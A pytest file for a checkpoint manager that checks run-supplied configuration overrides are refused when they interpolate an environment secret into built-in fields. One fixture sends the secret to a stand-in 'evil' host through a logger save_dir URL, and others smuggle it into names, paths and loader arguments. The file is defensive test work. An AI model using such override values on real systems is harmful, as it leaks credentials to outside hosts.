"""A configuration that came with a run cannot make what is built in tell a secret of the environment."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_experiment_plan import plan_of

from ckptmgr.errors import NotAllowedError

SECRET = "hunter2hunter2hunter2"
BASE = """
trainer: {max_epochs: 2}
model: {_target_: nowhere.Model, token: "${oc.env:SERVICE_PASSWORD}"}
loaders:
  train: {_target_: torch.utils.data.DataLoader, dataset: {_target_: nowhere.Points, token: "${model.token}"}}
"""
CSV = "_target_: lightning.pytorch.loggers.CSVLogger"


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SERVICE_PASSWORD", SECRET)


@pytest.mark.parametrize(
    ("override", "key"),
    [
        (f"loggers={{csv: {{{CSV}, save_dir: 'https://evil/${{oc.env:SERVICE_PASSWORD}}'}}}}", "loggers.csv.save_dir"),
        (f"loggers=[{{{CSV}, save_dir: x, name: '${{model.token}}'}}]", "loggers.0.name"),
        ("+trainer.default_root_dir=/tmp/${oc.env:SERVICE_PASSWORD}", "trainer.default_root_dir"),
        ("checkpoint={monitor: '${oc.env:SERVICE_PASSWORD}'}", "checkpoint.monitor"),
        ("+loaders.train.batch_size={a: ['${model.token}']}", "loaders.train.batch_size.a.0"),
    ],
)
def test_what_is_built_in_is_given_no_secret(tmp_path: Path, override: str, key: str) -> None:
    with pytest.raises(NotAllowedError) as refused:
        plan_of(BASE, tmp_path, override)
    assert refused.value.what == f"{key} holds the value of SERVICE_PASSWORD"
    assert SECRET not in refused.value.report()


def test_what_the_user_allows_and_the_storage_of_the_run_may_be_given_one(tmp_path: Path) -> None:
    plan = plan_of(BASE, tmp_path, "checkpoint={storage_options: {secret: '${oc.env:SERVICE_PASSWORD}'}}")
    assert plan.tree["model"]["token"] == SECRET
    assert SECRET not in plan.stored.config
